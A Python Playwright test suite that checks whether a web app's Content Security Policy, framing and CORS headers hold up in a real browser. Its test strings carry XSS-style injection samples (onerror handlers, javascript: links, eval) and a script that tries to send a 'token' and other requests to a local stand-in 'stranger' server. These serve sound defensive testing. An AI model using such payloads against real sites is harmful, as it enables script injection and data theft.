"""What a real browser makes of our headers: script that got into a page is alone, and strangers' pages read nothing."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Error, Page

from browser.watching import Complaints
from stack.pages import need_built_pages
from stack.server import RunningServer

REFUSED = r"Content Security Policy|Refused to|violates the following|X-Frame-Options|CORS policy|net::ERR_"

INLINE = """() => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = "a script element"';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = `<img src="/nothing.png" onerror="window.ran = 'a handler'">
        <a href="javascript:window.ran = 'an address'">x</a>`;
    document.body.append(holder);
    holder.querySelector('a').click();
    // In a task of its own: the browser lets whoever drives it evaluate what he wants.
    const evaluated = new Promise((done) => setTimeout(() => {
        try { (0, eval)('window.ran = "eval"'); } catch {}
        try { new Function('window.ran = "Function"')(); } catch {}
        try { setTimeout('window.ran = "a text as a timer"', 0); } catch {}
        setTimeout(done, 10);
    }, 0));
    const picture = holder.querySelector('img');
    const failed = new Promise((done) => picture.addEventListener('error', () => setTimeout(done, 0)));
    return Promise.all([evaluated, failed]);
}"""

TELL = """async (stranger) => {
    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
    add('img', { src: stranger + '/img' });
    add('video', { src: stranger + '/video' });
    add('script', { src: stranger + '/script' });
    add('link', { rel: 'stylesheet', href: stranger + '/style' });
    add('iframe', { src: stranger + '/iframe' });
    add('object', { data: stranger + '/object' });
    navigator.sendBeacon(stranger + '/beacon', 'token');
    try { new Worker(stranger + '/worker'); } catch {}
    try { new WebSocket(stranger.replace('http', 'ws') + '/socket'); } catch {}
    const form = Object.assign(document.createElement('form'), { action: stranger + '/form', method: 'post' });
    document.body.append(form);
    form.submit();
    add('base', { href: stranger });
    return fetch(stranger + '/fetch').then(() => 'told', () => 'refused');
}"""

READ = """async ([api, headers]) => fetch(api, { headers }).then((answer) => answer.text(), () => 'nothing')"""


@dataclass
class Stranger:
    """A site that serves one page at each path, lets everybody read it, and remembers what it was asked for."""

    url: str
    asked: list[str] = field(default_factory=list)
    page: bytes = b"<!doctype html><title>a stranger</title>"


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    site = Stranger("")

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(site.page)))
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(site.page)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        site.url = f"http://127.0.0.1:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield site
        server.shutdown()
        thread.join()


@pytest.fixture
def demo(page: Page, running_server: RunningServer) -> Page:
    need_built_pages()
    page.goto(running_server.url + "/")
    page.get_by_role("textbox").first.wait_for()
    return page


def test_the_pages_run_under_their_policy(demo: Page) -> None:
    assert demo.title()  # what the page complained of fails the test by itself


def test_script_that_got_into_a_page_does_not_run(demo: Page, complaints: Complaints) -> None:
    complaints.expect(REFUSED, "404")
    demo.evaluate(INLINE)
    assert demo.evaluate("window.ran") is None


def test_what_runs_all_the_same_cannot_tell_a_stranger(demo: Page, stranger: Stranger, complaints: Complaints) -> None:
    complaints.expect(REFUSED)
    assert demo.evaluate(TELL, stranger.url) == "refused"
    # by now everything above has been refused too: a page of the stranger's own gets through behind it
    go_to(demo, stranger.url + "/afterwards")
    assert set(stranger.asked) - {"/favicon.ico"} == {"/afterwards"}


def go_to(page: Page, address: str) -> None:
    """Leave for another page, also where a form that is just being refused takes the first try along."""
    for _ in range(3):
        try:
            page.goto(address)
        except Error as error:
            if "ERR_ABORTED" not in str(error):
                raise
        else:
            return
    raise AssertionError(f"{address} was not reached")


def test_no_stranger_shows_our_pages_in_a_frame(
    page: Page, running_server: RunningServer, stranger: Stranger, complaints: Complaints
) -> None:
    need_built_pages()
    complaints.expect(REFUSED)
    addresses = [running_server.url + path for path in ("/", "/api/v1/docs")]
    stranger.page = "".join(f'<iframe src="{address}"></iframe>' for address in addresses).encode()
    page.goto(stranger.url + "/")
    assert [frame.url for frame in page.frames[1:]] == ["chrome-error://chromewebdata/"] * 2


def test_a_strangers_page_reads_nothing_of_the_api(
    new_page: Callable[..., Page], running_server: RunningServer, stranger: Stranger, complaints: Complaints
) -> None:
    complaints.expect(REFUSED)
    somebody = running_server.api_as_somebody()
    page = new_page()
    page.goto(stranger.url + "/")
    bearer = {"Authorization": f"Bearer {somebody.token}"}
    assert page.evaluate(READ, [running_server.url + "/api/v1/config", {}]) == "nothing"
    assert page.evaluate(READ, [running_server.url + "/api/v1/users/me", bearer]) == "nothing"
    assert somebody.username in somebody.get("/users/me").body.decode(), "which the token itself would have read"
